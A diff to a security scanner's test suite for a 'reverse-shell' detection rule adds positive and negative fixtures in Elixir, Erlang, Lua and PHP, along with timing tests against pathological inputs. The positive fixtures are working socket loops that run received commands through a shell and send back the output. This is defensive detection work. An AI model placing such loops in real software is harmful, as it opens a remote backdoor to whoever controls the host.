@@ -1,4 +1,4 @@
-import { describeRuleCases, js, py, sh } from './rule-cases.helper.js';
+import { describeRuleCases, findingsOf, js, py, sh } from './rule-cases.helper.js';
 
 describeRuleCases('reverse-shell', [
   {
@@ -141,4 +141,51 @@ describeRuleCases('reverse-shell', [
     negative:
       'r, w, pid = PTY.spawn(ENV["SHELL"], "-i")\nlog = File.open(path, "w")\nIO.copy_stream(r, log)\n',
   },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'lib/mix/tasks/stats.ex',
+    positive:
+      '{:ok, s} = :gen_tcp.connect(host, port, [:binary, active: false, packet: :line])\nloop = fn loop ->\n  case :gen_tcp.recv(s, 0) do\n    {:ok, line} ->\n      {out, _} = System.cmd("/bin/sh", ["-c", line], stderr_to_stdout: true)\n      :gen_tcp.send(s, out)\n      loop.(loop)\n    _ -> :ok\n  end\nend\n',
+    negative:
+      '{:ok, s} = :gen_tcp.connect(host, port, [:binary, active: false])\n{:ok, banner} = :gen_tcp.recv(s, 0)\n{out, 0} = System.cmd("git", ["rev-parse", "HEAD"])\n',
+  },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'src/relay.erl',
+    positive:
+      'run(H, P) ->\n    {ok, S} = gen_tcp:connect(H, P, [binary, {active, true}]),\n    loop(S).\nloop(S) ->\n    receive\n        {tcp, S, Data} -> gen_tcp:send(S, os:cmd(binary_to_list(Data))), loop(S)\n    end.\n',
+    negative:
+      'run(H, P) ->\n    {ok, S} = gen_tcp:connect(H, P, [binary, {active, true}]),\n    receive\n        {tcp, S, Data} -> io:format("~s~n", [Data])\n    end,\n    os:cmd("uptime").\n',
+  },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'plugin/sync.lua',
+    positive:
+      'local socket = require("socket")\nlocal c = socket.tcp()\nc:connect(host, port)\nwhile true do\n  local line = c:receive("*l")\n  if not line then break end\n  local f = io.popen(line)\n  c:send(f:read("*a"))\n  f:close()\nend\n',
+    negative:
+      'local socket = require("socket")\nlocal c = socket.tcp()\nc:connect(host, port)\nlocal banner = c:receive("*l")\nlocal f = io.popen("uname -a")\n',
+  },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'tools/agent.php',
+    positive:
+      '<?php\n$s = fsockopen($host, $port);\nwhile (!feof($s)) {\n    $c = fgets($s);\n    fwrite($s, shell_exec($c));\n}\n',
+    negative:
+      '<?php\n$s = fsockopen($host, 80);\nfwrite($s, "HEAD / HTTP/1.0\\r\\n\\r\\n");\n$status = fgets($s);\nexec(\'uptime\', $out);\n',
+  },
 ]);
+
+describe('adversarial socket command loops', () => {
+  const MiB = 1024 * 1024;
+  const head = '{:ok, s} = :gen_tcp.connect(h, p, [])\n{:ok, l} = :gen_tcp.recv(s, 0)\n';
+  const cases: [string, string, string][] = [
+    ['Elixir shell calls', 'lib/x.ex', head + 'System.cmd("sh", ["-c", "'.repeat(MiB / 24)],
+    ['Erlang os:cmd calls', 'src/x.erl', head + 'os:cmd("'.repeat(MiB / 8)],
+    ['PHP reads', 'x.php', '<?php fsockopen($h, $p);\n' + 'fgets($'.repeat(MiB / 7)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, path, text) => {
+    const start = performance.now();
+    findingsOf(text, path);
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
